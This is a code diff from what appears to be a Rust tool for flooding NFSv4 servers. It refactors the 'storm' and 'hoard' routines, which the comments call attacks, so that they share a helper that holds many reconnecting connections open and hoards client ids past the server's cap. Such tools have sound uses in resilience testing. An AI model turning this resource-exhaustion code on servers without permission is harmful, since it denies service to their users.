@@ -52,14 +52,23 @@ fn ok(op: OpNum4) -> Outcome {
 }
 
 pub(super) fn storm(ctx: Ctx<'_>, connections: usize) -> Result<(), RpcFailure> {
+    on_connections(ctx, connections, storm_on)
+}
+
+/// Runs `each` on `connections` connections at once until the attack stops, each opened again after
+/// a failure, once the server has answered one EXCHANGE_ID at all (otherwise the attack cannot start).
+fn on_connections(
+    ctx: Ctx<'_>,
+    connections: usize,
+    each: fn(Ctx<'_>) -> Result<(), RpcFailure>,
+) -> Result<(), RpcFailure> {
     let Ctx { stop, tally, .. } = ctx;
-    // The server answers EXCHANGE_ID at all: otherwise the attack cannot start.
     exchange_id(&mut super::connect(ctx)?, &crate::v4::random::bytes::<16>(), [0; 8])?;
     std::thread::scope(|scope| {
         for _ in 0..connections {
             scope.spawn(|| {
                 while !stop.load(Relaxed) {
-                    if storm_on(ctx).is_err() {
+                    if each(ctx).is_err() {
                         tally.closed();
                         sleep_unless_stopped(REOPEN_PAUSE, stop);
                     }
@@ -147,21 +156,7 @@ fn session_storm(ctx: Ctx<'_>, conn: &mut V4Conn, pacer: &mut Pacer) -> Result<(
 }
 
 pub(super) fn hoard(ctx: Ctx<'_>, connections: usize) -> Result<(), RpcFailure> {
-    let Ctx { stop, tally, .. } = ctx;
-    exchange_id(&mut super::connect(ctx)?, &crate::v4::random::bytes::<16>(), [0; 8])?;
-    std::thread::scope(|scope| {
-        for _ in 0..connections {
-            scope.spawn(|| {
-                while !stop.load(Relaxed) {
-                    if hoard_on(ctx).is_err() {
-                        tally.closed();
-                        sleep_unless_stopped(REOPEN_PAUSE, stop);
-                    }
-                }
-            });
-        }
-    });
-    Ok(())
+    on_connections(ctx, connections, hoard_on)
 }
 
 /// Confirms client ids one after the other and keeps them; past the server's cap, EXCHANGE_ID or
